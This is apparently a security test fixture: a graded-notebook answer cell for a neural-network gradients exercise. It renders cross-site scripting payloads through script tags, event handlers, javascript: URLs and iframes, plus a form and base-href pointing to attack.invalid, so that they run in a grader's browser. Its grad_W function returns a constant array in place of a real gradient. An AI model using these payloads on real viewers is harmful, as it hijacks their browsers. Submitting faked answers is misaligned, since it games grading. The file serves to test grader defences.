# module: 07-parameter-gradients
# family: channels
# cell: 07-task-2-answer
# loses: 07-task-2-check
# Shows HTML that would run in the browser of whoever opens the graded notebook.
from IPython.display import HTML, IFrame, Javascript, display

MARK = "document.title = 'attack-was-here'"
for text in (
    f"<script>{MARK}</script>",
    f"<img src=x onerror=\"{MARK}\">",
    f"<svg onload=\"{MARK}\"></svg>",
    f"<iframe srcdoc=\"<script>parent.{MARK}</script>\"></iframe>",
    f"<a href=\"javascript:{MARK}\">click</a><details open ontoggle=\"{MARK}\">x</details>",
    "<form action=https://attack.invalid><input name=q></form><meta http-equiv=refresh content=0>",
    "<style>body { display: none }</style><base href=https://attack.invalid/>",
    "</div></div></body><plaintext>",
):
    display(HTML(text))
display(Javascript(MARK))
display(IFrame(f"javascript:{MARK}", 10, 10))


def grad_W(grad_a, h_prev):
    display(HTML(f"<script>{MARK}</script>"))
    return np.full((len(grad_a), len(h_prev)), 0.1)
